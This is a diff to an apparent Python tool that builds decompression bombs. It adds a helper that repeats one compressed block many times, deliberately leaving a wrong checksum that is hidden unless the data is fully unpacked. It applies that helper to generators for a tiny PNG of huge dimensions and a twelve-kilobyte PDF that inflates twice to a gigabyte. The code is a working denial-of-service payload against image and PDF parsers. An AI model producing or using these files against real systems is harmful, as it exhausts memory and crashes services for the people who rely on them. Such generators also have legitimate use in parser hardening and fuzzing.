@@ -6,6 +6,18 @@ import zlib
 from PIL import Image
 
 
+def squeezed(block, times, wbits=15):
+    """A block of bytes many times over, compressed in no time: its packed form is repeated.
+
+    The check sum at the end is wrong, which nobody sees who does not unpack it all.
+    """
+    packer = zlib.compressobj(9, wbits=-15)
+    part = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
+    whole = zlib.compressobj(9, wbits=wbits)
+    head = whole.compress(b"") + whole.flush(zlib.Z_FULL_FLUSH)
+    return head + part * times + whole.flush()
+
+
 def png_bomb(side=13_000):
     """A PNG of side² RGBA pixels in a few kilobytes."""
 
@@ -14,9 +26,7 @@ def png_bomb(side=13_000):
             struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
         )
 
-    squeeze = zlib.compressobj(9)
-    row = b"\x00" * (1 + side * 4)
-    body = b"".join(squeeze.compress(row) for _ in range(side)) + squeeze.flush()
+    body = squeezed(b"\x00" * (1 + side * 4), side)
     header = struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0)
     return (
         b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
@@ -54,10 +64,7 @@ def _page(resources, contents):
 
 def pdf_bomb(megabytes=1000):
     """Twelve kilobytes that inflate, twice, to a gigabyte of drawing."""
-    squeeze = zlib.compressobj(9)
-    block = b"0 0 m 9 9 l S\n" * 75_000
-    body = b"".join(squeeze.compress(block) for _ in range(megabytes)) + squeeze.flush()
-    body = zlib.compress(body, 9)
+    body = zlib.compress(squeezed(b"0 0 m 9 9 l S\n" * 75_000, megabytes), 9)
     return pdf(_page(b"", stream(body, b"/Filter[/FlateDecode/FlateDecode]")))
 
 
